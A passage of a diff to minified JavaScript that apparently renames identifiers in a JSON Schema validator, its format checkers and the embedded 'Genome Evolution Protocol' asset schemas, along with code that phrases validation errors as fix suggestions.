+Dd=/^((([0-9a-f]{1,4}:){7}([0-9a-f]{1,4}|:))|(([0-9a-f]{1,4}:){6}(:[0-9a-f]{1,4}|((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3})|:))|(([0-9a-f]{1,4}:){5}(((:[0-9a-f]{1,4}){1,2})|:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3})|:))|(([0-9a-f]{1,4}:){4}(((:[0-9a-f]{1,4}){1,3})|((:[0-9a-f]{1,4})?:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){3}(((:[0-9a-f]{1,4}){1,4})|((:[0-9a-f]{1,4}){0,2}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){2}(((:[0-9a-f]{1,4}){1,5})|((:[0-9a-f]{1,4}){0,3}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){1}(((:[0-9a-f]{1,4}){1,6})|((:[0-9a-f]{1,4}){0,4}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(:(((:[0-9a-f]{1,4}){1,7})|((:[0-9a-f]{1,4}){0,5}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:)))$/i,
+bb=n=>/^P(?:\d+W|(?:(?:\d+Y(?:\d+M(?:\d+D)?)?|\d+M(?:\d+D)?|\d+D)(?:T(?:\d+H(?:\d+M(?:\d+S)?)?|\d+M(?:\d+S)?|\d+S))?|T(?:\d+H(?:\d+M(?:\d+S)?)?|\d+M(?:\d+S)?|\d+S)))$/.
+test(n);function Pn(n){return n.test.bind(n)}const xd={date:Od,time:Ad.bind(void 0,!0),"date-time":vb,duration:bb,uri:xb,
+"uri-reference":Pn(Bb),"uri-template":Pn(fb),url:Pn(hb),email:wb,hostname:Pn(vd),ipv4:Pn(kd),ipv6:Pn(Dd),regex:Ab,uuid:Pn(
+pb),"json-pointer":Pn(mb),"json-pointer-uri-fragment":Pn(gb),"relative-json-pointer":Pn(Cb)};function _b(n){return n%4===
+0&&(n%100!==0||n%400===0)}function Od(n){const e=n.match(ub);if(!e)return!1;const t=e[1],s=e[2],r=e[3];if(!t||!s||!r)return!1;
+const i=+t,o=+s,c=+r,l=o==2&&_b(i)?29:lb[o];return o>=1&&o<=12&&c>=1&&l!==void 0&&c<=l}function Ad(n,e){const t=e.match(
+db);if(!t)return!1;const s=t[1],r=t[2],i=t[3];if(!s||!r||!i)return!1;const o=+s,c=+r,l=+i,B=t[5],d=t[6],h=+(t[7]??0),g=+(t[8]??
 0);if(o>23||c>59||l>60||h>23||g>59||n&&B===void 0)return!1;if(l<60)return!0;const C=d==="+"?1:d==="-"?-1:0;return(o*60+c-
-C*(h*60+g)+1440)%1440===1439}const _b=/t|\s/i;function Eb(n){const[e,t,s]=n.split(_b);return e!==void 0&&t!==void 0&&s===
-void 0&&xd(e)&&Od(!0,t)}const vb=/\/|:/,kb=/^(?:[a-z][a-z0-9+\-.]*:)(?:\/?\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:]|%[0-9a-f]{2})*@)?(?:\[(?:(?:(?:(?:[0-9a-f]{1,4}:){6}|::(?:[0-9a-f]{1,4}:){5}|(?:[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){4}|(?:(?:[0-9a-f]{1,4}:){0,1}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){3}|(?:(?:[0-9a-f]{1,4}:){0,2}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){2}|(?:(?:[0-9a-f]{1,4}:){0,3}[0-9a-f]{1,4})?::[0-9a-f]{1,4}:|(?:(?:[0-9a-f]{1,4}:){0,4}[0-9a-f]{1,4})?::)(?:[0-9a-f]{1,4}:[0-9a-f]{1,4}|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?))|(?:(?:[0-9a-f]{1,4}:){0,5}[0-9a-f]{1,4})?::[0-9a-f]{1,4}|(?:(?:[0-9a-f]{1,4}:){0,6}[0-9a-f]{1,4})?::)|[Vv][0-9a-f]+\.[a-z0-9\-._~!$&'()*+,;=:]+)\]|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)|(?:[a-z0-9\-._~!$&'()*+,;=]|%[0-9a-f]{2})*)(?::\d*)?(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*|\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*)?|(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*)(?:\?(?:[a-z0-9\-._~!$&'()*+,;=:@/?]|%[0-9a-f]{2})*)?(?:#(?:[a-z0-9\-._~!$&'()*+,;=:@/?]|%[0-9a-f]{2})*)?$/i;
-function Db(n){return vb.test(n)&&kb.test(n)}const xb=/[^\\]\\Z/;function Ob(n){if(xb.test(n))return!1;try{return new RegExp(
-n,"u"),!0}catch{return!1}}function Ab(n){let e=0,t=n.length,s=0,r;for(;s<t;)e++,r=n.charCodeAt(s++),r>=55296&&r<=56319&&
+C*(h*60+g)+1440)%1440===1439}const Eb=/t|\s/i;function vb(n){const[e,t,s]=n.split(Eb);return e!==void 0&&t!==void 0&&s===
+void 0&&Od(e)&&Ad(!0,t)}const kb=/\/|:/,Db=/^(?:[a-z][a-z0-9+\-.]*:)(?:\/?\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:]|%[0-9a-f]{2})*@)?(?:\[(?:(?:(?:(?:[0-9a-f]{1,4}:){6}|::(?:[0-9a-f]{1,4}:){5}|(?:[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){4}|(?:(?:[0-9a-f]{1,4}:){0,1}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){3}|(?:(?:[0-9a-f]{1,4}:){0,2}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){2}|(?:(?:[0-9a-f]{1,4}:){0,3}[0-9a-f]{1,4})?::[0-9a-f]{1,4}:|(?:(?:[0-9a-f]{1,4}:){0,4}[0-9a-f]{1,4})?::)(?:[0-9a-f]{1,4}:[0-9a-f]{1,4}|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?))|(?:(?:[0-9a-f]{1,4}:){0,5}[0-9a-f]{1,4})?::[0-9a-f]{1,4}|(?:(?:[0-9a-f]{1,4}:){0,6}[0-9a-f]{1,4})?::)|[Vv][0-9a-f]+\.[a-z0-9\-._~!$&'()*+,;=:]+)\]|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)|(?:[a-z0-9\-._~!$&'()*+,;=]|%[0-9a-f]{2})*)(?::\d*)?(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*|\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*)?|(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*)(?:\?(?:[a-z0-9\-._~!$&'()*+,;=:@/?]|%[0-9a-f]{2})*)?(?:#(?:[a-z0-9\-._~!$&'()*+,;=:@/?]|%[0-9a-f]{2})*)?$/i;
+function xb(n){return kb.test(n)&&Db.test(n)}const Ob=/[^\\]\\Z/;function Ab(n){if(Ob.test(n))return!1;try{return new RegExp(
+n,"u"),!0}catch{return!1}}function Sb(n){let e=0,t=n.length,s=0,r;for(;s<t;)e++,r=n.charCodeAt(s++),r>=55296&&r<=56319&&
 s<t&&(r=n.charCodeAt(s),(r&64512)==56320&&s++);return e}function _s(n,e){return Object.prototype.hasOwnProperty.call(n,e)}
-function Ad(n){const e=Math.abs(n).toString().split("e"),t=e[0],s=e[1]??"0",r=t.indexOf("."),i=r===-1?0:t.length-r-1;return[
-BigInt(t.replace(".","")),Number(s)-i]}function Sb(n,e){if(!Number.isFinite(n)||!Number.isFinite(e)||e<=0)return!1;const[
-t,s]=Ad(n),[r,i]=Ad(e),o=s-i;return o>=0?t*10n**BigInt(o)%r===0n:t%(r*10n**BigInt(-o))===0n}function It(n,e,t="2019-09",s=bs(
+function Sd(n){const e=Math.abs(n).toString().split("e"),t=e[0],s=e[1]??"0",r=t.indexOf("."),i=r===-1?0:t.length-r-1;return[
+BigInt(t.replace(".","")),Number(s)-i]}function Tb(n,e){if(!Number.isFinite(n)||!Number.isFinite(e)||e<=0)return!1;const[
+t,s]=Sd(n),[r,i]=Sd(e),o=s-i;return o>=0?t*10n**BigInt(o)%r===0n:t%(r*10n**BigInt(-o))===0n}function It(n,e,t="2019-09",s=bs(
 e),r=!0,i=null,o="#",c="#",l=Object.create(null)){if(e===!0)return{valid:!0,errors:[]};if(e===!1)return{valid:!1,errors:[
 {instanceLocation:o,keyword:"false",keywordLocation:o,error:"False boolean schema."}]};const B=typeof n;let d;switch(B){case"\
 boolean":case"number":case"string":d=B;break;case"object":n===null?d="null":Array.isArray(n)?d="array":d="object";break;default:
@@ -3405,16 +3405,16 @@ n<de&&Ce.push({instanceLocation:o,keyword:"minimum",keywordLocation:`${c}/minimu
 void 0&&n>Se&&Ce.push({instanceLocation:o,keyword:"maximum",keywordLocation:`${c}/maximum`,error:`${n} is greater than ${Se}\
 .`}),ne!==void 0&&n<=ne&&Ce.push({instanceLocation:o,keyword:"exclusiveMinimum",keywordLocation:`${c}/exclusiveMinimum`,
 error:`${n} is less than ${ne}.`}),rt!==void 0&&n>=rt&&Ce.push({instanceLocation:o,keyword:"exclusiveMaximum",keywordLocation:`${c}\
-/exclusiveMaximum`,error:`${n} is greater than or equal to ${rt}.`})),it!==void 0&&(Sb(n,it)||Ce.push({instanceLocation:o,
+/exclusiveMaximum`,error:`${n} is greater than or equal to ${rt}.`})),it!==void 0&&(Tb(n,it)||Ce.push({instanceLocation:o,
 keyword:"multipleOf",keywordLocation:`${c}/multipleOf`,error:`${n} is not a multiple of ${it}.`}));else if(d==="string"){
-const Ne=ut===void 0&&ie===void 0?0:Ab(n);ut!==void 0&&Ne<ut&&Ce.push({instanceLocation:o,keyword:"minLength",keywordLocation:`${c}\
+const Ne=ut===void 0&&ie===void 0?0:Sb(n);ut!==void 0&&Ne<ut&&Ce.push({instanceLocation:o,keyword:"minLength",keywordLocation:`${c}\
 /minLength`,error:`String is too short (${Ne} < ${ut}).`}),ie!==void 0&&Ne>ie&&Ce.push({instanceLocation:o,keyword:"maxL\
 ength",keywordLocation:`${c}/maxLength`,error:`String is too long (${Ne} > ${ie}).`}),re!==void 0&&!new RegExp(re,"u").test(
 n)&&Ce.push({instanceLocation:o,keyword:"pattern",keywordLocation:`${c}/pattern`,error:"String does not match pattern."}),
-Z!==void 0&&Dd[Z]&&!Dd[Z](n)&&Ce.push({instanceLocation:o,keyword:"format",keywordLocation:`${c}/format`,error:`String d\
-oes not match format "${Z}".`})}return{valid:Ce.length===0,errors:Ce}}class Tb{schema;draft;shortCircuit;lookup;constructor(e,t="\
+Z!==void 0&&xd[Z]&&!xd[Z](n)&&Ce.push({instanceLocation:o,keyword:"format",keywordLocation:`${c}/format`,error:`String d\
+oes not match format "${Z}".`})}return{valid:Ce.length===0,errors:Ce}}class Ib{schema;draft;shortCircuit;lookup;constructor(e,t="\
 2019-09",s=!0){this.schema=e,this.draft=t,this.shortCircuit=s,this.lookup=bs(e)}validate(e){return It(e,this.schema,this.
-draft,this.lookup,this.shortCircuit)}addSchema(e,t){t&&(e={...e,$id:t}),bs(e,this.lookup)}}const Ib=JSON.parse('{"$schem\
+draft,this.lookup,this.shortCircuit)}addSchema(e,t){t&&(e={...e,$id:t}),bs(e,this.lookup)}}const $b=JSON.parse('{"$schem\
 a":"http://json-schema.org/draft-07/schema#","$id":"https://evomap.ai/gep/schemas/capsule.schema.json","title":"GEP Caps\
 ule","description":"A record of a single evolution in the Genome Evolution Protocol","type":"object","required":["type",\
 "schema_version","id","trigger","gene","summary","confidence","blast_radius","outcome","asset_id"],"properties":{"type":\
@@ -3451,7 +3451,7 @@ ibility":{"type":["string","null"],"enum":["private","unlisted","public",null]},
 :{"type":"string","minLength":1}},"cost_tier":{"type":["string","null"],"enum":["cheap","standard","premium",null]},"pac\
 k_of":{"type":["array","null"],"items":{"type":"string","pattern":"^sha256:[a-f0-9]{64}$"}},"author":{"type":["object","\
 null"],"required":["handle","evox_install_id"],"properties":{"handle":{"type":"string","minLength":1},"evox_install_id":\
-{"type":"string","minLength":1}},"additionalProperties":false}},"additionalProperties":false}'),$b=JSON.parse('{"$schema\
+{"type":"string","minLength":1}},"additionalProperties":false}},"additionalProperties":false}'),Rb=JSON.parse('{"$schema\
 ":"http://json-schema.org/draft-07/schema#","$id":"https://evomap.ai/gep/schemas/evolution-event.schema.json","title":"G\
 EP EvolutionEvent","description":"Full audit record of one evolution cycle","type":"object","required":["type","schema_v\
 ersion","id","intent","signals","genes_used","mutation_id","blast_radius","outcome","source_type","asset_id"],"propertie\
@@ -3467,7 +3467,7 @@ gerprint":{"type":["object","null"]},"validation_report_id":{"type":["string","n
 ,"trigger_context":{"type":["object","null"],"properties":{"prompt":{"type":"string","maxLength":2000},"reasoning_trace"\
 :{"type":"string","maxLength":4000},"context_signals":{"type":"array","items":{"type":"string"}},"session_id":{"type":"s\
 tring"},"agent_model":{"type":"string"}},"additionalProperties":false},"asset_id":{"type":"string","pattern":"^sha256:[a\
--f0-9]{64}$"}},"additionalProperties":false}'),Rb=JSON.parse(`{"$schema":"http://json-schema.org/draft-07/schema#","$id"\
+-f0-9]{64}$"}},"additionalProperties":false}'),Nb=JSON.parse(`{"$schema":"http://json-schema.org/draft-07/schema#","$id"\
 :"https://evomap.ai/gep/schemas/gene.schema.json","title":"GEP Gene","description":"A reusable evolution strategy in the\
  Genome Evolution Protocol","type":"object","required":["type","schema_version","id","category","signals_match","strateg\
 y","constraints","validation","asset_id"],"properties":{"type":{"const":"Gene"},"schema_version":{"type":"string","patte\
@@ -3509,7 +3509,7 @@ ring","enum":["ci","local","prod","sandbox"]}},"additionalProperties":false},"ve
 cific projection uses this axis; absent means 'no verifier binding' and disqualifies the record from strict K_auto.","pr\
 operties":{"verifier":{"type":"string","minLength":1,"description":"Verifier identity, e.g. 'gep-verify@1.4', 'npm-test'\
 ."},"decision":{"type":"string","enum":["pass","fail","inconclusive"]}},"additionalProperties":false},"asset_id":{"type"\
-:"string","pattern":"^sha256:[a-f0-9]{64}$"}},"additionalProperties":false}`),Nb=JSON.parse('{"$schema":"http://json-sch\
+:"string","pattern":"^sha256:[a-f0-9]{64}$"}},"additionalProperties":false}`),Fb=JSON.parse('{"$schema":"http://json-sch\
 ema.org/draft-07/schema#","$id":"https://evomap.ai/gep/schemas/mutation.schema.json","title":"GEP Mutation","description\
 ":"Declaration of intended change before execution. Unlike the other content-addressable asset types, the reference engi\
 ne treats Mutation as a transient in-memory object and typically does not stamp `schema_version` / `asset_id`. Both fiel\
@@ -3519,208 +3519,208 @@ xpected_effect","risk_level"],"properties":{"type":{"const":"Mutation"},"schema_
 d+\\\\.\\\\d+\\\\.\\\\d+$"},"id":{"type":"string","minLength":1},"category":{"type":"string","enum":["repair","optimize","innova\
 te","explore"]},"trigger_signals":{"type":"array","items":{"type":"string"}},"target":{"type":"string","minLength":1},"e\
 xpected_effect":{"type":"string","minLength":1},"risk_level":{"type":"string","enum":["low","medium","high"]},"asset_id"\
-:{"type":"string","pattern":"^sha256:[a-f0-9]{64}$"}},"additionalProperties":false}'),Sd={type:"string",pattern:"^\\d+\\.\\\
-d+\\.\\d+$"},Td="^sha256:[a-f0-9]{64}$",Fb={type:"object",required:["type","schema_version","id","gene_id","commands","o\
-verall_ok","duration_ms","created_at","asset_id"],properties:{type:{const:"ValidationReport"},schema_version:Sd,id:{type:"\
+:{"type":"string","pattern":"^sha256:[a-f0-9]{64}$"}},"additionalProperties":false}'),Td={type:"string",pattern:"^\\d+\\.\\\
+d+\\.\\d+$"},Id="^sha256:[a-f0-9]{64}$",Pb={type:"object",required:["type","schema_version","id","gene_id","commands","o\
+verall_ok","duration_ms","created_at","asset_id"],properties:{type:{const:"ValidationReport"},schema_version:Td,id:{type:"\
 string",minLength:1},gene_id:{type:"string",minLength:1},env_fingerprint:{type:["object","null"]},commands:{type:"array",
 items:{type:"object",required:["command","ok","stdout","stderr"],properties:{command:{type:"string"},ok:{type:"boolean"},
 stdout:{type:"string"},stderr:{type:"string"}}}},overall_ok:{type:"boolean"},duration_ms:{type:"integer",minimum:0},created_at:{
-type:"string",minLength:1},asset_id:{type:"string",pattern:Td}}},Ri={type:"array",items:{type:"string"}},Pb={type:"objec\
-t",required:["type","schema_version","id","summary","trigger","avoid","asset_id"],properties:{type:{const:"AntiGene"},schema_version:Sd,
-id:{type:"string",minLength:1},summary:{type:"string",minLength:1},trigger:{...Ri,minItems:1},avoid:{...Ri,minItems:1},rationale:{
-type:"string"},severity:{enum:["low","medium","high"]},source_clusters:Ri,evidence_capsules:Ri,failure_count:{type:"inte\
-ger",minimum:0},asset_id:{type:"string",pattern:Td}}},Id={Gene:Rb,Capsule:Ib,EvolutionEvent:$b,Mutation:Nb,ValidationReport:Fb,
-AntiGene:Pb};function Lb(n,e,t){return jb[t?"all":"first"][n].validate(e).errors}const jb={all:$d(!1),first:$d(!0)};function $d(n){
-const e=Cs.Dd.map(t=>[t,new Tb(Id[t],"7",n)]);return Object.fromEntries(e)}const Mb=2e5,Gb=50;function Rd(n,e){try{return Hb(
-n,ed(e))}catch(t){if(!(t instanceof URIError))throw t;return[{kind:"invalid",pointer:[],keyword:"propertyNames",expected:"\
-an object whose keys are Unicode text",found:"not",more:0}]}}function Hb(n,e){const t=Lb(n,e,JSON.stringify(e).length<=Mb),
-s=new Map,r=new Set;for(const i of t){if(Zb.has(i.keyword))continue;const o=Ub(i);if(!r.has(o)){r.add(o);for(const c of Wb(
-i,n,e)){const l=zb(i,c),B=s.get(l);s.set(l,B?{...B,more:B.more+1}:c)}}}return[...s.values()].slice(0,Gb)}function zb({keywordLocation:n},e){
+type:"string",minLength:1},asset_id:{type:"string",pattern:Id}}},Ni={type:"array",items:{type:"string"}},Lb={type:"objec\
+t",required:["type","schema_version","id","summary","trigger","avoid","asset_id"],properties:{type:{const:"AntiGene"},schema_version:Td,
+id:{type:"string",minLength:1},summary:{type:"string",minLength:1},trigger:{...Ni,minItems:1},avoid:{...Ni,minItems:1},rationale:{
+type:"string"},severity:{enum:["low","medium","high"]},source_clusters:Ni,evidence_capsules:Ni,failure_count:{type:"inte\
+ger",minimum:0},asset_id:{type:"string",pattern:Id}}},$d={Gene:Nb,Capsule:$b,EvolutionEvent:Rb,Mutation:Fb,ValidationReport:Pb,
+AntiGene:Lb};function jb(n,e,t){return Mb[t?"all":"first"][n].validate(e).errors}const Mb={all:Rd(!1),first:Rd(!0)};function Rd(n){
+const e=Cs.Dd.map(t=>[t,new Ib($d[t],"7",n)]);return Object.fromEntries(e)}const Gb=2e5,Hb=50;function Nd(n,e){try{return zb(
+n,td(e))}catch(t){if(!(t instanceof URIError))throw t;return[{kind:"invalid",pointer:[],keyword:"propertyNames",expected:"\
+an object whose keys are Unicode text",found:"not",more:0}]}}function zb(n,e){const t=jb(n,e,JSON.stringify(e).length<=Gb),
+s=new Map,r=new Set;for(const i of t){if(Wb.has(i.keyword))continue;const o=Jb(i);if(!r.has(o)){r.add(o);for(const c of Kb(
+i,n,e)){const l=Ub(i,c),B=s.get(l);s.set(l,B?{...B,more:B.more+1}:c)}}}return[...s.values()].slice(0,Hb)}function Ub({keywordLocation:n},e){
 switch(e.kind){case"missing":return JSON.stringify([n,...e.fields]);case"unknown":return JSON.stringify([n,e.field]);case"\
-invalid":return n}}function Ub({keyword:n,instanceLocation:e}){return`${Jb.has(n)?n:"value"} ${e}`}const Jb=new Set(["re\
-quired","additionalProperties"]),Zb=new Set(["properties","items","false"]);function Wb(n,e,t){const{keyword:s,keywordLocation:r,
-instanceLocation:i}=n,{pointer:o,value:c}=Kb(t,i),l=qb(e,r);if(s==="required"){const d=(l.required??[]).filter(g=>!Nd(c,
-g)),h=Object.fromEntries(d.map(g=>[g,Xb(l.properties?.[g]??{})]));return[{kind:"missing",pointer:o,fields:d,expected:h,more:0}]}
+invalid":return n}}function Jb({keyword:n,instanceLocation:e}){return`${Zb.has(n)?n:"value"} ${e}`}const Zb=new Set(["re\
+quired","additionalProperties"]),Wb=new Set(["properties","items","false"]);function Kb(n,e,t){const{keyword:s,keywordLocation:r,
+instanceLocation:i}=n,{pointer:o,value:c}=qb(t,i),l=Yb(e,r);if(s==="required"){const d=(l.required??[]).filter(g=>!Fd(c,
+g)),h=Object.fromEntries(d.map(g=>[g,e_(l.properties?.[g]??{})]));return[{kind:"missing",pointer:o,fields:d,expected:h,more:0}]}
 if(s==="additionalProperties"){const d=l.properties??{},h=Object.keys(c??{}).filter(C=>!Object.hasOwn(d,C)),g=Object.keys(
-d).filter(C=>!Nd(c,C));return h.map(C=>({kind:"unknown",pointer:[...o,C],field:C,absent:g,more:0}))}const B=Pd(s,l);return[
-{kind:"invalid",pointer:o,keyword:s,expected:B,found:Ld(c),more:0}]}function Nd(n,e){return n!==null&&Object.hasOwn(n,e)}
-function Kb(n,e){const t=[];let s=n;for(const r of Fd(e))Array.isArray(s)?(t.push(Number(r)),s=s[Number(r)]??null):(t.push(
-r),s=s[r]??null);return{pointer:t,value:s}}function qb(n,e){let t=Id[n];for(const s of Fd(e).slice(0,-1))t=t[s];return t}
-function Fd(n){return n.split("/").slice(1).map(e=>e.replaceAll("~1","/").replaceAll("~0","~"))}const Yb={string:"a stri\
-ng",array:"a list",object:"an object",integer:"an integer",number:"a number",boolean:"a boolean",null:"null"},Vb={"^\\d+\\\
-.\\d+\\.\\d+$":"three numbers such as `1.13.0`","^sha256:[a-f0-9]{64}$":"`sha256:` and 64 hexadecimal digits"},Qb=40;function Pd(n,e){
-const t=e[n];switch(n){case"type":return[t].flat().map(s=>Yb[String(s)]??String(s)).join(" or ");case"enum":return`one o\
-f ${(e.enum??[]).map(s=>`\`${JSON.stringify(s)}\``).join(", ")}`;case"const":return JSON.stringify(t);case"pattern":return Vb[String(
+d).filter(C=>!Fd(c,C));return h.map(C=>({kind:"unknown",pointer:[...o,C],field:C,absent:g,more:0}))}const B=Ld(s,l);return[
+{kind:"invalid",pointer:o,keyword:s,expected:B,found:jd(c),more:0}]}function Fd(n,e){return n!==null&&Object.hasOwn(n,e)}
+function qb(n,e){const t=[];let s=n;for(const r of Pd(e))Array.isArray(s)?(t.push(Number(r)),s=s[Number(r)]??null):(t.push(
+r),s=s[r]??null);return{pointer:t,value:s}}function Yb(n,e){let t=$d[n];for(const s of Pd(e).slice(0,-1))t=t[s];return t}
+function Pd(n){return n.split("/").slice(1).map(e=>e.replaceAll("~1","/").replaceAll("~0","~"))}const Vb={string:"a stri\
+ng",array:"a list",object:"an object",integer:"an integer",number:"a number",boolean:"a boolean",null:"null"},Qb={"^\\d+\\\
+.\\d+\\.\\d+$":"three numbers such as `1.13.0`","^sha256:[a-f0-9]{64}$":"`sha256:` and 64 hexadecimal digits"},Xb=40;function Ld(n,e){
+const t=e[n];switch(n){case"type":return[t].flat().map(s=>Vb[String(s)]??String(s)).join(" or ");case"enum":return`one o\
+f ${(e.enum??[]).map(s=>`\`${JSON.stringify(s)}\``).join(", ")}`;case"const":return JSON.stringify(t);case"pattern":return Qb[String(
 t)]??`a string that matches ${t}`;case"minLength":return t===1?"a non-empty string":`a string of at least ${t} character\
 s`;case"maxLength":return`a string of at most ${t} characters`;case"minItems":return t===1?"a non-empty list":`a list of\
  at least ${t} items`;case"maxItems":return`a list of at most ${t} items`;case"minimum":return`a number that is at least\
  ${t}`;case"maximum":return`a number that is at most ${t}`;default:return`a value that matches \`${n}\` in the schema`}}
-function Xb(n){const e=["enum","const","pattern","type"].find(t=>Object.hasOwn(Object(n),t));return e===void 0?"a value":
-Pd(e,n)}function Ld(n){return Array.isArray(n)?n.length===0?"an empty list":"a list":n!==null&&typeof n=="object"?"an ob\
-ject":typeof n!="string"?String(n):n.length<=Qb?JSON.stringify(n):`a string of ${n.length} characters`}var jd=at(916);const e_=80,
-t_=4;function Ni(n,e){const t=n.slice(0,e_),s=e.find(i=>i.includes(n));if(s!==void 0&&n.length>=t_)return s;const r=e.length>
-0?(0,jd.kp)(t,[...e]):void 0;if(r!==void 0)return(0,jd.Io)(t,r)<=t.length/2?r:void 0}function LN(n){return schemaDifferences(
-n.type,n.value).filter(e=>!c_(n,e)).flatMap(e=>s_(n,e)).map(e=>Md(n,e,"warning"))}function n_(n){const e=u_(n)?"warning":
-"error";return Rd(n.type,n.value).map(t=>Md(n,t,e))}function Md(n,e,t){const{type:s,id:r}=n,{pointer:i,more:o}=e,c={...fa(
+function e_(n){const e=["enum","const","pattern","type"].find(t=>Object.hasOwn(Object(n),t));return e===void 0?"a value":
+Ld(e,n)}function jd(n){return Array.isArray(n)?n.length===0?"an empty list":"a list":n!==null&&typeof n=="object"?"an ob\
+ject":typeof n!="string"?String(n):n.length<=Xb?JSON.stringify(n):`a string of ${n.length} characters`}var Md=at(916);const t_=80,
+n_=4;function Fi(n,e){const t=n.slice(0,t_),s=e.find(i=>i.includes(n));if(s!==void 0&&n.length>=n_)return s;const r=e.length>
+0?(0,Md.kp)(t,[...e]):void 0;if(r!==void 0)return(0,Md.Io)(t,r)<=t.length/2?r:void 0}function HN(n){return schemaDifferences(
+n.type,n.value).filter(e=>!u_(n,e)).flatMap(e=>r_(n,e)).map(e=>Gd(n,e,"warning"))}function s_(n){const e=l_(n)?"warning":
+"error";return Nd(n.type,n.value).map(t=>Gd(n,t,e))}function Gd(n,e,t){const{type:s,id:r}=n,{pointer:i,more:o}=e,c={...pa(
 n,i),severity:t},l=(B,d,h,g)=>(0,ct.gk)("schema-field",{type:s,id:r,field:B,fault:d,where:h,fix:g},c);switch(e.kind){case"\
 missing":{const{fields:B,expected:d}=e,h=B.includes("asset_id")?"; `gene-gate fix --identity --write` adds `asset_id` in\
  the repository of its author":"",C=`Add ${B.map(y=>`\`${y}\` (${d[y]})`).join(", ")}${h}`;return l(B.join("`, `"),"is m\
-issing",Hd(i,o),C)}case"unknown":{const B=Hd(i.slice(0,-1),o),{field:d,absent:h}=e,g=Ni(d,h),C=g===void 0?"":`If you mea\
+issing",zd(i,o),C)}case"unknown":{const B=zd(i.slice(0,-1),o),{field:d,absent:h}=e,g=Fi(d,h),C=g===void 0?"":`If you mea\
 nt \`${g}\`, rename it. Otherwise, `,y=`${C}${C?"remove":"Remove"} \`${d}\` or store it outside the asset`;return l(d,"i\
-s unknown",B,y)}case"invalid":{const{expected:B}=e,d=`${e.found}${o===0?"":` (and in ${Gd(o)})`}`,h=i.join("."),g=`must \
-be ${B}, but it is ${d}`;return l(h,g,"",`Change \`${h}\` to ${B}`)}}}function Gd(n){return n===1?"1 similar place":`${n}\
- similar places`}function Hd(n,e){return n.length===0?"":` in \`${n.join(".")}\`${e===0?"":` and ${Gd(e)}`}`}function s_(n,e){
-const{type:t}=n,{pointer:s}=e;switch(e.kind){case"missing":{const r=e.fields.filter(i=>!r_[t].has([...s,i].join("."))&&!(i===
-"source_type"&&(zd(n)??0)<o_));return r.length===0?[]:[{...e,fields:r}]}case"unknown":return[e];case"invalid":return i_(
-t,s,e.keyword)?[]:[e]}}const r_={Gene:new Set(["type","id","schema_version","asset_id","validation","constraints","const\
+s unknown",B,y)}case"invalid":{const{expected:B}=e,d=`${e.found}${o===0?"":` (and in ${Hd(o)})`}`,h=i.join("."),g=`must \
+be ${B}, but it is ${d}`;return l(h,g,"",`Change \`${h}\` to ${B}`)}}}function Hd(n){return n===1?"1 similar place":`${n}\
+ similar places`}function zd(n,e){return n.length===0?"":` in \`${n.join(".")}\`${e===0?"":` and ${Hd(e)}`}`}function r_(n,e){
+const{type:t}=n,{pointer:s}=e;switch(e.kind){case"missing":{const r=e.fields.filter(i=>!i_[t].has([...s,i].join("."))&&!(i===
+"source_type"&&(Ud(n)??0)<a_));return r.length===0?[]:[{...e,fields:r}]}case"unknown":return[e];case"invalid":return o_(
+t,s,e.keyword)?[]:[e]}}const i_={Gene:new Set(["type","id","schema_version","asset_id","validation","constraints","const\
 raints.max_files","constraints.forbidden_paths"]),Capsule:new Set(["type","id","schema_version","asset_id"]),EvolutionEvent:new Set(
 ["type","id","schema_version","asset_id"]),Mutation:new Set(["type","id"]),ValidationReport:new Set(["type","id"]),AntiGene:new Set(
-["type","id"])};function i_(n,[e,...t],s){if(e==="type"||e==="id"||e==="asset_id")return!0;if(n!=="Gene")return!1;const r=s===
